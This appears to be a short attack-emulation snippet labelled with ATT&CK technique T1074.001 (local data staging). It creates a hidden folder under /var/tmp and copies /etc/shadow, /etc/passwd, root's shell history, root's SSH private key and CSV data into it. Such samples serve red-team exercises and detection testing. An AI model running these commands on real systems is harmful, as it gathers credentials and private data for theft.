# title: What is to be taken is gathered in a hidden folder
# technique: T1074.001
# short: yes

mkdir -p /var/tmp/.stage
cp /etc/passwd /etc/shadow /root/.bash_history /root/.ssh/id_rsa /srv/data/*.csv /var/tmp/.stage/
